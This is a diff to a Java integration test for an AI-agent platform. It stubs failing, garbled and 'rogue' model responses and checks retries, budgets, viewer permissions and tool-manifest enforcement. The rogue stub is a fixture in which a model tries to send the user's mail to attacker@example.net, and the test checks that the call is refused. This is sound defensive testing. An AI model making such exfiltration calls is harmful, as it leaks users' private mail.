@@ -62,6 +62,18 @@ class AgentsIT {
                         .withBody("{\"id\":\"msg_2\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"claude-haiku-4-5\","
                                 + "\"content\":[{\"type\":\"text\",\"text\":\"Digest done.\"}],\"stop_reason\":\"end_turn\","
                                 + "\"stop_sequence\":null,\"usage\":{\"input_tokens\":200,\"output_tokens\":10}}")));
+        // agents whose spec names one of these models meet a failing or misbehaving provider
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-down\""))
+                .willReturn(aResponse().withStatus(500).withHeader("content-type", "application/json")
+                        .withBody("{\"type\":\"error\",\"error\":{\"type\":\"api_error\",\"message\":\"Internal server error\"}}")));
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-garbled\""))
+                .willReturn(aResponse().withStatus(200).withHeader("content-type", "application/json").withBody("{\"id\": \"msg_")));
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(3).withRequestBody(containing("\"claude-haiku-rogue\""))
+                .willReturn(aResponse().withStatus(200).withHeader("content-type", "application/json")
+                        .withBody("{\"id\":\"msg_r\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"claude-haiku-rogue\","
+                                + "\"content\":[{\"type\":\"tool_use\",\"id\":\"toolu_r\",\"name\":\"gmail_send\","
+                                + "\"input\":{\"to\":\"attacker@example.net\",\"subject\":\"all your mail\"}}],\"stop_reason\":\"tool_use\","
+                                + "\"stop_sequence\":null,\"usage\":{\"input_tokens\":50,\"output_tokens\":20}}")));
         Map<String, String> environment = new HashMap<>(ServerUnderTest.onFreshDatabase(ServerUnderTest.database("agents")));
         environment.putAll(Map.of(
                 "MCPROSPERO_SIGNUP_OPEN", "true",
@@ -69,7 +81,8 @@ class AgentsIT {
                 "MCPROSPERO_AGENTS_MIN_INTERVAL", "PT5S",
                 "MCPROSPERO_LLM_PROVIDER", "anthropic",
                 "MCPROSPERO_LLM_API_KEY", "sk-ant-stand-in",
-                "MCPROSPERO_LLM_BASE_URL", anthropic.baseUrl()));
+                "MCPROSPERO_LLM_BASE_URL", anthropic.baseUrl(),
+                "MCPROSPERO_LLM_MAX_RETRIES", "1"));
         server = ServerUnderTest.start("agents", environment);
         signIn = new LocalSignIn(server);
     }
@@ -252,5 +265,95 @@ class AgentsIT {
                 .contains("shorter than the platform allows");
         assertThat(refusal(person.callTool("get_agent", "{\"agent\":\"No such agent\"}"))).contains("list_agents");
         assertThat(structured(person.callTool("list_agents", "{}")).getJsonArray("agents")).as("nothing half-made").isEmpty();
+    }
+
+    /** Creates an approved agent for a client that elicits, and answers the id of a run started now. */
+    private static String approvedAndRunNow(ModernMcp person, String name, String model) {
+        structured(callApproving(person, "create_agent", "{\"name\":\"" + name + "\",\"instructions\":\"Work.\","
+                + "\"tools\":[\"remember\"],\"model\":\"" + model + "\"}"));
+        return structured(person.callTool("update_agent", "{\"agent\":\"" + name + "\",\"action\":\"run_now\"}")).getString("run_id");
+    }
+
+    private static JsonObject finishedRun(ModernMcp person, String runId, Duration within) throws InterruptedException {
+        Instant deadline = Instant.now().plus(within);
+        JsonObject run = structured(person.callTool("get_run", "{\"run_id\":\"" + runId + "\"}")).getJsonObject("run");
+        while (run.getString("status").equals("running") && Instant.now().isBefore(deadline)) {
+            Thread.sleep(500);
+            run = structured(person.callTool("get_run", "{\"run_id\":\"" + runId + "\"}")).getJsonObject("run");
+        }
+        return run;
+    }
+
+    @Test
+    void aProviderThatFailsOrAnswersGarbageEndsTheRunWithAClearReason() throws Exception {
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("failing")).accessToken());
+        String garbled = approvedAndRunNow(person, "Garbled", "claude-haiku-garbled");
+        String down = approvedAndRunNow(person, "Down", "claude-haiku-down");
+
+        JsonObject malformed = finishedRun(person, garbled, Duration.ofSeconds(30));
+        assertThat(malformed.getString("status")).isEqualTo("failed");
+        assertThat(malformed.getString("reason")).as("a malformed answer is not retried").contains("not a Messages API response");
+        assertThat(anthropic.findAll(postRequestedFor(urlPathEqualTo("/v1/messages")).withRequestBody(containing("claude-haiku-garbled"))))
+                .hasSize(1);
+
+        JsonObject failed = finishedRun(person, down, Duration.ofSeconds(90));
+        assertThat(failed.getString("status")).isEqualTo("failed");
+        assertThat(failed.getString("reason")).contains("500");
+        int attempts = anthropic.findAll(postRequestedFor(urlPathEqualTo("/v1/messages")).withRequestBody(containing("claude-haiku-down"))).size();
+        assertThat(attempts).as("bounded: the adapter's retries within each of the engine's attempts").isBetween(2, 10);
+        assertThat(failed.getJsonNumber("units").longValue()).as("a failed call costs nothing").isZero();
+    }
+
+    @Test
+    void aToolOutsideTheApprovedManifestIsRefusedAndTheRefusalIsInTheTranscript() throws Exception {
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("rogue")).accessToken());
+        JsonObject run = finishedRun(person, approvedAndRunNow(person, "Rogue", "claude-haiku-rogue"), Duration.ofSeconds(30));
+
+        assertThat(run.getString("status")).isEqualTo("completed");
+        List<JsonObject> calls = run.getJsonArray("steps").getValuesAs(JsonValue::asJsonObject).stream()
+                .filter(step -> step.getString("kind").equals("tool_call")).toList();
+        assertThat(calls).singleElement().satisfies(call -> {
+            assertThat(call.getString("name")).isEqualTo("gmail_send");
+            assertThat(call.getBoolean("error")).isTrue();
+        });
+        assertThat(anthropic.findAll(postRequestedFor(urlPathEqualTo("/v1/messages")).withRequestBody(containing("not in this agent's approved manifest"))))
+                .as("the model is told why").isNotEmpty();
+    }
+
+    @Test
+    void aSpentBudgetStopsTheRunAndWhoamiShowsWhatIsLeft() throws Exception {
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("thrifty")).accessToken());
+        JsonObject whoami = structured(person.callTool("whoami", "{}"));
+        assertThat(whoami.getJsonObject("budget").getJsonNumber("daily_units").longValue()).isEqualTo(100_000);
+        String orgId = whoami.getJsonObject("org").getString("id");
+        ModernMcp admin = new ModernMcp(server, signIn.tokensFor(ServerUnderTest.ADMIN_EMAIL).accessToken());
+        structured(admin.callTool("admin", "{\"action\":\"set_budget\",\"org_id\":\"" + orgId + "\",\"daily_units\":50}"));
+        assertThat(structured(person.callTool("whoami", "{}")).getJsonObject("budget").getJsonNumber("left_today").longValue()).isEqualTo(50);
+
+        JsonObject run = finishedRun(person, approvedAndRunNow(person, "Thrifty", "claude-haiku-4-5"), Duration.ofSeconds(30));
+
+        assertThat(run.getString("status")).isEqualTo("failed");
+        assertThat(run.getString("reason")).contains("daily budget of 50 units");
+        assertThat(run.getInt("turns")).isZero();
+        assertThat(structured(person.callTool("whoami", "{}")).getJsonObject("budget").getJsonNumber("left_today").longValue())
+                .as("nothing is held after a refused call").isEqualTo(50);
+    }
+
+    @Test
+    void aViewerReadsAgentsButCannotCreateOrRunThem() {
+        ModernMcp owner = new ModernMcp(server, signIn.tokensFor(email("team-owner")).accessToken());
+        String orgId = structured(owner.callTool("create_org", "{\"name\":\"Agents team " + UUID.randomUUID().toString().substring(0, 6) + "\"}"))
+                .getJsonObject("org").getString("id");
+        String viewerEmail = email("viewer");
+        ModernMcp viewer = new ModernMcp(server, signIn.tokensFor(viewerEmail).accessToken());
+        ModernMcp admin = new ModernMcp(server, signIn.tokensFor(ServerUnderTest.ADMIN_EMAIL).accessToken());
+        structured(admin.callTool("admin", "{\"action\":\"set_role\",\"org_id\":\"" + orgId + "\",\"user\":\"" + viewerEmail + "\",\"role\":\"viewer\"}"));
+        structured(owner.callTool("create_agent", "{\"name\":\"Team agent\",\"instructions\":\"x\",\"org_id\":\"" + orgId + "\"}"));
+
+        assertThat(structured(viewer.callTool("list_agents", "{\"org_id\":\"" + orgId + "\"}")).getJsonArray("agents")).hasSize(1);
+        assertThat(refusal(viewer.callTool("create_agent", "{\"name\":\"Mine\",\"instructions\":\"x\",\"org_id\":\"" + orgId + "\"}")))
+                .contains("does not allow");
+        assertThat(refusal(viewer.callTool("update_agent", "{\"agent\":\"Team agent\",\"action\":\"pause\",\"org_id\":\"" + orgId + "\"}")))
+                .contains("does not allow");
     }
 }
